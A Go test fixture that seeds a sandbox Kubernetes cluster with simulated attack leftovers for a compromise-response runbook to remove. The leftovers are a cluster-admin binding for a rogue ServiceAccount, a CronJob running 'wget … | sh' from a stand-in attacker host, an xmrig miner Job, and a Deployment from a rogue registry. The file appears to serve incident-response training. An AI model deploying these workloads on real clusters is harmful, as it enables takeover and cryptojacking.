package sandbox

// What the attack of the Kubernetes cluster compromise runbook left behind,
// for the eradication steps to find and remove: a ServiceAccount in
// kube-system bound to cluster-admin by a ClusterRoleBinding made during the
// attack, a CronJob that fetches and runs a script from the attacker's
// server, a Job that ran a cryptocurrency miner (both labelled
// malicious=true, as the runbook's `kubectl delete cronjob,job -l
// malicious=true -A` expects), and a Deployment running an image from a
// registry the platform does not use (the attacker's server).

import (
	"context"

	appsv1 "k8s.io/api/apps/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/utils/ptr"
)

// Names and images of the attack's leftovers, all in kube-system.
const (
	AttackServiceAccount = "kube-cleanup"
	AttackBinding        = "cleanup-admin"
	AttackCronJob        = "kube-cleanup"
	AttackJob            = "kube-cleanup-init"
	AttackDeployment     = "kube-metrics-proxy"
	MinerImage           = "docker.io/xmrig/xmrig:6.21.0"
	// RogueRegistryImage comes from the attacker's host (203.0.113.66, the
	// CronJob's download server), not from ghcr.io/llm-orchestrator,
	// docker.io/library or quay.io/prometheus like the platform's images.
	RogueRegistryImage = "203.0.113.66:5000/kube-metrics-proxy:v0.3.1"
)

func seedAttack(ctx context.Context, cs kubernetes.Interface) error {
	malicious := map[string]string{"app": "kube-cleanup", "malicious": "true"}
	_, err := cs.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: AttackBinding},
		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
		Subjects:   []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Namespace: metav1.NamespaceSystem, Name: AttackServiceAccount}},
	}, createOpts)
	if err != nil {
		return err
	}
	_, err = cs.BatchV1().CronJobs(metav1.NamespaceSystem).Create(ctx, &batchv1.CronJob{
		ObjectMeta: metav1.ObjectMeta{Name: AttackCronJob, Labels: malicious},
		Spec: batchv1.CronJobSpec{
			Schedule: "*/10 * * * *",
			JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{
				ServiceAccountName:            AttackServiceAccount,
				RestartPolicy:                 corev1.RestartPolicyOnFailure,
				TerminationGracePeriodSeconds: noGracePeriod,
				Containers: []corev1.Container{{
					Name:    "cleanup",
					Image:   "docker.io/library/busybox:1.36",
					Command: []string{"/bin/sh", "-c", "wget -qO- http://203.0.113.66/k.sh | sh"},
				}},
			}}}},
		},
	}, createOpts)
	if err != nil {
		return err
	}
	_, err = cs.BatchV1().Jobs(metav1.NamespaceSystem).Create(ctx, &batchv1.Job{
		ObjectMeta: metav1.ObjectMeta{Name: AttackJob, Labels: malicious},
		Spec: batchv1.JobSpec{
			BackoffLimit: ptr.To[int32](0),
			Template: corev1.PodTemplateSpec{
				ObjectMeta: metav1.ObjectMeta{Labels: malicious},
				Spec: corev1.PodSpec{
					ServiceAccountName:            AttackServiceAccount,
					RestartPolicy:                 corev1.RestartPolicyNever,
					TerminationGracePeriodSeconds: noGracePeriod,
					Containers: []corev1.Container{{
						Name:  "init",
						Image: MinerImage,
						Args:  []string{"-o", "pool.minexmr.example:4444", "--donate-level=0", "--cpu-max-threads-hint=75"},
					}},
				},
			},
		},
	}, createOpts)
	if err != nil {
		return err
	}
	labels := map[string]string{"app": AttackDeployment}
	_, err = cs.AppsV1().Deployments(metav1.NamespaceSystem).Create(ctx, &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{Name: AttackDeployment, Labels: labels},
		Spec: appsv1.DeploymentSpec{
			Replicas: ptr.To[int32](1),
			Selector: &metav1.LabelSelector{MatchLabels: labels},
			Template: corev1.PodTemplateSpec{
				ObjectMeta: metav1.ObjectMeta{Labels: labels},
				Spec: corev1.PodSpec{
					ServiceAccountName:            AttackServiceAccount,
					TerminationGracePeriodSeconds: noGracePeriod,
					Containers:                    []corev1.Container{{Name: "proxy", Image: RogueRegistryImage}},
				},
			},
		},
	}, createOpts)
	return err
}
